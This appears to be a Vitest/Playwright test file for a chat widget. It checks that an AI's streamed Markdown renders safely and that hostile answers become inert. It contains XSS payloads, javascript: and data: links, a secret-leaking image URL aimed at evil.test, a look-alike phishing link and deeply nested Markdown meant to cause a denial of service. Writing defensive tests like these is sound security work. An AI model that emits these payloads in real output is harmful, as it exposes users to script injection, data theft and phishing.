import { describe, expect } from "vitest";
import type { SseReply } from "../harness/sse-reply.ts";
import { type SseServer, says } from "../harness/sse-server.ts";
import { watch } from "../security/browser/inert.ts";
import { testAlone } from "./fixtures.ts";

/** Answers in Markdown, in real Chromium, from a real server with a model of its own. */

const test = testAlone({ hasModel: true });

/** A model that says what it is told to, when it is told. */
function nextReply(model: SseServer): Promise<SseReply> {
  return new Promise((resolve) => model.next((reply) => resolve(reply)));
}

describe("an answer in Markdown", () => {
  test("streams without half of anything, and ends as it was meant", async ({ model, shop }) => {
    const asked = nextReply(model);
    await shop.says("How do I return shoes?");
    const reply = await asked;
    const streaming = shop.message("ai", undefined, "streaming");
    const shows = (selector: string) => streaming.locator(selector).count();

    reply.text("You have **30");
    await streaming.filter({ hasText: "You have **30" }).waitFor();
    expect(await shows("strong")).toBe(0);
    reply.text(" days**.\n\n1. Open [your orders](https://shop.exam");
    await streaming.filter({ hasText: "https://shop.exam" }).waitFor();
    expect(await streaming.locator("strong").textContent()).toBe("30 days");
    expect(await streaming.locator("ol > li").count()).toBe(1);
    expect(await shows("a")).toBe(0);
    expect(await streaming.locator("li .caret").count()).toBe(1);
    reply.text("ple/orders)\n2. Choose `Return`\n\nThank");
    await streaming.filter({ hasText: "Thank" }).waitFor();
    expect(await streaming.locator("a").textContent()).toBe("your orders (shop.example)");
    reply.text(" you.");
    reply.finish();

    const sent = shop.message("ai", "Thank you.");
    await sent.waitFor();
    const shown = await sent.locator('[part~="text"]').evaluate((text) => text.innerHTML);
    expect(shown).toBe(
      '<p dir="auto">You have <strong>30 days</strong>.</p><ol dir="auto" start="1"><li>Open ' +
        '<a href="https://shop.example/orders" target="_blank" rel="noopener noreferrer nofollow">' +
        '<bdi>your orders</bdi><span class="host"> (<bdi>shop.example</bdi>)</span></a></li>' +
        '<li>Choose <code>Return</code></li></ol><p dir="auto">Thank you.</p>',
    );
    // A fresh page shows the same.
    await shop.reload();
    await expect.poll(() => sent.locator('[part~="text"]').evaluate((text) => text.innerHTML)).toBe(shown);
  });

  test("is read out in words, without its marks", async ({ model, shop }) => {
    model.next(says("It is **free**. See [returns](https://shop.example/returns)."));
    await shop.says("What does it cost?");
    await shop.message("ai", "It is free").waitFor();
    const said = shop.page.locator("baton-chat [aria-live=polite]");
    await said.filter({ hasText: "See returns." }).waitFor();
    expect(await said.textContent()).not.toMatch(/[*[]|https/u);
  });
});

const HOSTILE = [
  "<script>pwned(1)</script><img src=x onerror=pwned(1)><iframe src=//evil.test></iframe>",
  "[click](javascript:pwned(1)) [click](JaVa\tScript:pwned(1)) [click](javascript&#58;pwned(1)) <javascript:pwned(1)>",
  "[click][1] [x](data:text/html,<script>pwned(1)</script>) [x](//evil.test) [x](vbscript:pwned(1))",
  "![cat](https://evil.test/i.png?q=secret) ![cat](data:image/svg+xml,<svg/onload=pwned(1)>) ![](blob:x)",
  "[https://paypal.com/login](https://evil.test/login) [paypal.com](https://evil.test) https://paypal.com@evil.test/",
  "[mail](mailto:a@b.c?bcc=spy@evil.test) [call](tel:*#06#)",
  '[a](https://evil.test "onmouseover=pwned(1)") [a](https://evil.test/"onmouseover=pwned(1))',
  "[1]: javascript:pwned(1)\n<https://evil.test/<b>>\n<style>*{background:url(//evil.test)}</style>",
  "```html\n<script>pwned(1)</script>\n```\n> <b onclick=pwned(1)>q</b>\n\n- <i>i</i>",
].join("\n\n");

describe("[A5, A10] a hostile answer", () => {
  test("opens no dialog, asks for nothing, and becomes no element that a list does not name", async ({
    baton,
    model,
    shop,
  }) => {
    const page = await shop.context.newPage();
    const watched = await watch(page, (url) => url.origin === baton.origin || url.protocol === "data:");
    await page.goto(`${baton.origin}/?lang=en`);
    await page.locator('baton-chat [part~="launcher"]').click();
    const composer = page.locator('baton-chat [part~="composer"]');
    const answers = page.locator('baton-chat [part~="message"][data-author="ai"][data-state="sent"]');
    const ask = async (answer: string) => {
      const before = await answers.count();
      model.next((reply) => {
        reply.text(answer);
        reply.text("\n\nThe end");
        reply.finish();
      });
      await composer.fill("Hello?");
      await composer.press("Enter");
      await answers.nth(before).waitFor();
      return answers.nth(before).locator('[part~="text"]');
    };

    const text = await ask(HOSTILE);
    await text.locator("code").first().waitFor();
    const elements = await text.evaluate((root) => [
      ...new Set([...root.querySelectorAll("*")].map(({ localName }) => localName)),
    ]);
    const known = "p ul ol li blockquote pre code a bdi span strong em svg path".split(" ");
    expect(elements.filter((name) => !known.includes(name))).toEqual([]);
    const links = await text
      .locator("a")
      .evaluateAll((all) => all.map((link) => `${link.getAttribute("href")} ${link.textContent}`));
    expect(links).toEqual([
      "https://evil.test/i.png?q=secret cat (evil.test)",
      "https://evil.test/login https://paypal.com/login (evil.test)",
      "https://evil.test/ paypal.com (evil.test)",
      "mailto:a@b.c mail (a@b.c)",
      "https://evil.test/ a (evil.test)",
      "https://evil.test/%22onmouseover=pwned(1) a (evil.test)",
      "https://evil.test/ https://evil.test/",
    ]);

    for (const nested of [
      "*".repeat(10_000),
      "**a *b ".repeat(1_400),
      "[a](".repeat(2_500),
      "> - `".repeat(2_000),
    ]) {
      const inert = await ask(nested);
      const depth = await inert.evaluate((root) => {
        const deep = (node: Element): number =>
          Math.max(0, ...[...node.children].map((child) => 1 + deep(child)));
        return deep(root);
      });
      expect(depth).toBeLessThan(10);
    }
    expect(await watched.trouble()).toEqual([]);
    expect(watched.requests.join("\n")).not.toContain("evil.test");
  });
});
